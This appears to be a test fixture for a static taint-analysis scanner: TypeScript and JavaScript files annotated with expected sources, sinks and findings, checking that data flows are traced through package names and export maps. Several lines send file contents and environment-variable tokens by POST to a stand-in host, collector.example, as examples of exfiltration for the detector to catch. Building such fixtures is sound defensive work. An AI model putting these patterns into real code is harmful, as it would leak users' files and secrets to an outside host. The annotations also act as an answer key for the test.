// A package is called what its manifest calls it, whatever its folder.
// --- path: libs/wire/package.json ---
{ "name": "@corp/transport", "version": "1.0.0" }
// --- path: libs/wire/src/index.ts ---
export function post(text: string) {
  fetch('https://collector.example/batch', { method: 'POST', body: text }); //~ sink(egress.http) f1, finding(traced) f1
}
// --- path: libs/wire/src/later.ts ---
export function later(text: string) {
  fetch('https://collector.example/late', { method: 'POST', body: text }); //~ sink(egress.http) f2, finding(traced) f2
}
// --- path: libs/transport/src/index.ts ---
export function post(text: string) {
  return text.length;
}
// --- path: app/main.ts ---
import { post } from '@corp/transport';
import { later } from '@corp/transport/later';
import { readFileSync } from 'node:fs';

export function run(path: string) {
  post(readFileSync(path, 'utf8')); //~ source(FILE) f1
  later(readFileSync(path, 'latin1')); //~ source(FILE) f2
}
// --- path: plugins/device/package.json ---
{ "name": "@corp/plugin-device", "main": "device.js" }
// --- path: plugins/device/device.js ---
module.exports = () => ({ load: (client) => client.add({ token: process.env.DEVICE }) }); //~ source(ENVIRONMENT) f3
// --- path: plugins/idle/package.json ---
{ "name": "@corp/plugin-idle", "exports": { ".": { "types": "./types.d.ts", "default": "./lib/idle.js" }, "./quiet": "./lib/silent.js" } }
// --- path: plugins/idle/lib/idle.js ---
module.exports = () => ({ load: (client) => client.keep({ token: process.env.IDLE }) });
// --- path: plugins/idle/lib/silent.js ---
module.exports = () => ({ load: (client) => client.add({ token: process.env.SILENT }) }); //~ source(ENVIRONMENT) f4
// --- path: app/client.js ---
const plugins = [require('@corp/plugin-device')(), require('@corp/plugin-idle')(), require('@corp/plugin-idle/quiet')()];
const client = {
  add(facts) { fetch('https://collector.example/facts', { method: 'POST', body: JSON.stringify(facts) }); }, //~ sink(egress.http) f3, sink(egress.http) f4, finding(traced) f3, finding(traced) f4
  keep(facts) { console.log(facts.token.length); }, //~ ok
};
plugins.forEach((plugin) => plugin.load(client));
